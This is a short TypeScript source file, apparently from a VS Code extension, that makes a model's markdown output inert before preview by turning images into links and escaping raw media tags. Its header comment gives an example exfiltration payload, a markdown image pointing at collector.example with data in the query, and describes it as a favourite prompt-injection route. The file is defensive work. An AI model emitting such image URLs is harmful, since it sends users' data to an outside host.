// Makes a model's markdown answer inert before it is shown as a document: VS Code's Markdown Preview
// loads https images by default, so an answer carrying `![](https://collector.example/?q=<code>)`
// (a prompt injection's favourite exfiltration) would send data out just by being previewed. Images
// become plain links (nothing loads until the user clicks) and raw <img> tags become text; code
// blocks are left exactly as written.

const FENCE = /^\s{0,3}(`{3,}|~{3,})/;

export function inertMarkdown(markdown: string): string {
  let fence: string | undefined;
  return markdown
    .split('\n')
    .map((line) => {
      const open = FENCE.exec(line);
      if (open) {
        const marker = open[1]!;
        if (fence === undefined) fence = marker[0]!.repeat(marker.length);
        else if (marker.startsWith(fence)) fence = undefined;
        return line;
      }
      if (fence !== undefined) return line;
      return line.replace(/!\[([^\]]*)\]\(/g, '[image: $1](').replace(/<(img|image|svg|iframe|video|audio|source)\b/gi, '&lt;$1');
    })
    .join('\n');
}
